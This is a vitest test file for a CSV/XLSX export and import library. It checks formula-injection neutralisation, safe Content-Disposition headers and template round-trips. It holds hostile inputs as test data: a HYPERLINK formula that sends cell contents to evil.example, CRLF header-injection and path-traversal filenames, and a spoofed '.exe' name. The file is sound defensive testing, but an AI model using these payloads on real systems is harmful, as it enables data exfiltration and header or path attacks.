import fc from 'fast-check';
import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import {
  contentDisposition,
  createRowConverter,
  csvChunks,
  csvTemplate,
  downloadHeaders,
  ENTITIES,
  exportFilename,
  exportHeaders,
  exampleIn,
  fieldsOf,
  formatCsvCell,
  LANGS,
  localizeValue,
  matchHeaders,
  needsNeutralizing,
  neutralizeFormula,
  openTable,
  toCsv,
  unneutralizeFormula,
  writeXlsx,
  xlsxTemplate,
  type ExportCell,
} from '../../src/files/index.js';
import { fixture } from './helpers.js';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\0'];

describe('formula neutraliser (D9)', () => {
  it('prefixes every trigger character and a leading apostrophe', () => {
    for (const t of TRIGGERS) expect(neutralizeFormula(`${t}1+1`)).toBe(`'${t}1+1`);
    expect(neutralizeFormula("'quoted")).toBe("''quoted");
    expect(neutralizeFormula('plain =1')).toBe('plain =1');
    expect(neutralizeFormula('')).toBe('');
  });

  it('property: an exported cell never starts with a trigger unless prefixed, and unescaping round-trips', () => {
    const s = fc.string({
      unit: fc.oneof(
        fc.constantFrom(...TRIGGERS, "'", 'a', ' '),
        fc.string({ unit: 'binary', maxLength: 1 }),
      ),
      maxLength: 20,
    });
    fc.assert(
      fc.property(s, (value) => {
        const out = neutralizeFormula(value);
        expect(TRIGGERS.includes(out[0] ?? '')).toBe(false);
        if (needsNeutralizing(value)) expect(out).toBe(`'${value}`);
        expect(unneutralizeFormula(out)).toBe(value);
        // The CSV cell, unquoted, starts with ' or a safe character, never with a trigger.
        const cell = formatCsvCell(value, { delimiter: ';' });
        const unquoted = cell.startsWith('"') ? cell.slice(1) : cell;
        expect(TRIGGERS.includes(unquoted[0] ?? '')).toBe(false);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('CSV writer', () => {
  it('quotes per RFC 4180, localises decimals and yes/no, and starts with a BOM', () => {
    const csv = toCsv(
      [
        ['a;b', 'say "hi"', 'two\nlines', 1234.5, true, null, new Date('2026-12-31T00:00:00Z')],
        ['=1+1', -3, false, undefined, 'ok', '', 0],
      ],
      { delimiter: ';', lang: 'it' },
    );
    expect(csv).toBe(
      '\uFEFF"a;b";"say ""hi""";"two\nlines";1234,5;sì;;2026-12-31\r\n\'=1+1;-3;no;;ok;;0\r\n',
    );
    expect(toCsv([[1.5, 'x,y']], { delimiter: ',', bom: false, lang: 'en' })).toBe('1.5,"x,y"\r\n');
    expect(toCsv([[1.5]], { delimiter: ',', decimal: ',', bom: false })).toBe('"1,5"\r\n');
  });

  it('streams in chunks from an async source', async () => {
    async function* rows(): AsyncGenerator<ExportCell[]> {
      for (let i = 0; i < 20_000; i++) yield [`row ${i}`, i];
    }
    const chunks: string[] = [];
    for await (const c of csvChunks(rows(), { delimiter: ',' })) chunks.push(c);
    expect(chunks.length).toBeGreaterThan(1);
    expect(chunks.join('').split('\r\n')).toHaveLength(20_001);
  });
});

describe('XLSX writer', () => {
  it('writes every cell with an explicit string or number type, neutralised, header bold and frozen', async () => {
    const book = await writeXlsx(
      [
        {
          name: 'Risorse [1]/x',
          rows: [
            ['Titolo', 'Prezzo (€)'],
            ['=cmd', 12.5],
            ['@x', -1],
            [true, null],
          ],
        },
      ],
      { lang: 'fr' },
    );
    const files = unzipSync(book);
    const sheet = new TextDecoder().decode(files['xl/worksheets/sheet1.xml']);
    const cells = [...sheet.matchAll(/<c [^>]*>/g)].map((m) => m[0]);
    expect(cells.length).toBe(7);
    for (const c of cells) expect(c).toMatch(/ t="(n|inlineStr)"/);
    expect(sheet).toContain('<t xml:space="preserve">\'=cmd</t>');
    expect(sheet).toContain('<t xml:space="preserve">\'@x</t>');
    expect(sheet).toContain('<v>-1</v>');
    expect(sheet).toContain('>oui</t>');
    expect(sheet).not.toContain('<f>');
    expect(sheet).toContain('state="frozen"');
    const wb = new TextDecoder().decode(files['xl/workbook.xml']);
    expect(wb).toContain('name="Risorse  1  x"');
  });
});

describe('Content-Disposition (D10)', () => {
  it.each([
    'report.csv',
    'Risorse – Liguria (città).xlsx',
    'evil"\r\nSet-Cookie: a=b.csv',
    '../../etc/passwd',
    'C:\\Users\\x\\file.xlsx',
    '\u202Egnp.exe',
    '',
    '...',
    "\"; filename*=UTF-8''hack.exe",
    'ファイル.csv',
  ])('builds a safe header from %j', (name) => {
    const h = contentDisposition(name);
    expect(h).toMatch(/^[\x20-\x7e]+$/);
    expect(h).not.toMatch(/[\r\n]/);
    const m = /^attachment; filename="([^"\\]*)"(?:; filename\*=UTF-8''([A-Za-z0-9%!._~-]+))?$/.exec(h);
    expect(m, h).not.toBeNull();
    expect(m![1]).not.toMatch(/^\.|[/\\]/);
    if (m![2]) expect(decodeURIComponent(m![2])).not.toMatch(/[/\\\r\n]/);
  });

  it('keeps the UTF-8 name in filename* and a folded ASCII fallback', () => {
    expect(contentDisposition('Città.csv')).toBe(
      `attachment; filename="Citta.csv"; filename*=UTF-8''Citt%C3%A0.csv`,
    );
    expect(contentDisposition('plain.csv')).toBe('attachment; filename="plain.csv"');
  });

  it('gives download headers with nosniff and a server-chosen name', () => {
    const name = exportFilename('assets', 'xlsx', new Date('2026-11-21T10:00:00Z'));
    expect(name).toBe('rilancio-assets-2026-11-21.xlsx');
    expect(downloadHeaders(name, 'xlsx')).toEqual({
      'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      'content-disposition': 'attachment; filename="rilancio-assets-2026-11-21.xlsx"',
      'x-content-type-options': 'nosniff',
    });
  });
});

describe('import templates', () => {
  it.each(ENTITIES)(
    '%s templates (CSV and XLSX, IT/FR/EN) re-import cleanly with their example row',
    async (entity) => {
      for (const lang of LANGS) {
        const csv = openTable(csvTemplate(entity, lang), `t.csv`);
        expect(csv.bom).toBe(true);
        expect(csv.delimiter).toBe(lang === 'en' ? ',' : ';');
        const xlsx = openTable(await xlsxTemplate(entity, lang), `t.xlsx`);
        for (const table of [csv, xlsx]) {
          expect(table.header.labels).toEqual(exportHeaders(entity, lang));
          const match = matchHeaders(entity, table.header.labels);
          expect(match.issues).toEqual([]);
          const rows = [...table.rows].map(
            createRowConverter(match, { decimal: table.delimiter === ';' ? ',' : '.' }),
          );
          expect(rows).toHaveLength(1);
          expect(rows[0]!.issues, `${entity} ${lang} ${table.format}`).toEqual([]);
          // Every non-empty example comes back as the canonical value.
          for (const f of fieldsOf(entity)) {
            const ex = exampleIn(f, lang);
            if (ex === '' || (Array.isArray(ex) && ex.length === 0)) continue;
            const got = rows[0]!.record[f.name];
            if (f.type === 'languages')
              expect(got).toEqual([
                { language: 'it', level: 'C2' },
                { language: 'fr', level: 'B1' },
              ]);
            else
              expect(got, `${entity}.${f.name} ${lang} ${table.format}`).toEqual(
                f.type === 'phone' ? '+390187123456' : ex,
              );
          }
        }
      }
    },
  );

  it('localises example values per language', () => {
    const date = fieldsOf('assets').find((f) => f.name === 'availableUntil')!;
    expect(localizeValue(date, '2026-12-31', 'it')).toBe('31/12/2026');
    expect(localizeValue(date, '2026-12-31', 'en')).toBe('2026-12-31');
    const kind = fieldsOf('assets').find((f) => f.name === 'kind')!;
    expect(localizeValue(kind, 'building', 'fr')).toBe('Hangar / bâtiment');
  });
});

describe('formula payloads round-trip through import and export', () => {
  it('imports as text, exports neutralised in CSV and XLSX, and re-imports to the same values', async () => {
    const original = openTable(fixture('formula-payloads.csv'), 'f.csv');
    const match = matchHeaders('assets', original.header.labels);
    const rows = [...original.rows].map(createRowConverter(match, { decimal: ',' }));
    expect(rows.flatMap((r) => r.issues)).toEqual([]);
    // Text is trimmed on import, so the leading tab of "\t=1+2" goes (exports neutralise "=1+2").
    const titles = rows.map((r) => r.record.title);
    expect(titles).toEqual([
      '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
      '+SUM(1;2)',
      '@SUM(A1:A2)',
      '=1+2',
      "'già prefissato",
    ]);

    const fields = ['inventoryNumber', 'title', 'kind', 'municipality', 'description'];
    const table = [
      exportHeaders('assets', 'it', fields),
      ...rows.map((r) =>
        fields.map((f) =>
          localizeValue(
            fieldsOf('assets').find((d) => d.name === f)!,
            r.record[f],
            'it',
          ),
        ),
      ),
    ];

    const csvText = toCsv(table, { delimiter: ';' });
    for (const line of csvText
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .slice(1, -1)) {
      for (const cell of line.split(';'))
        expect(TRIGGERS.includes(cell.replace(/^"/, '')[0] ?? '')).toBe(false);
    }
    const xlsxBytes = await writeXlsx([{ name: 'assets', rows: table }]);
    for (const [bytes, name] of [
      [new TextEncoder().encode(csvText), 'e.csv'],
      [xlsxBytes, 'e.xlsx'],
    ] as const) {
      const back = openTable(bytes, name);
      const m = matchHeaders('assets', back.header.labels);
      const again = [...back.rows].map(createRowConverter(m, { decimal: ',' }));
      expect(
        again.map((r) => ({ ...r.record })),
        name,
      ).toEqual(rows.map((r) => ({ ...r.record })));
    }
  });
});
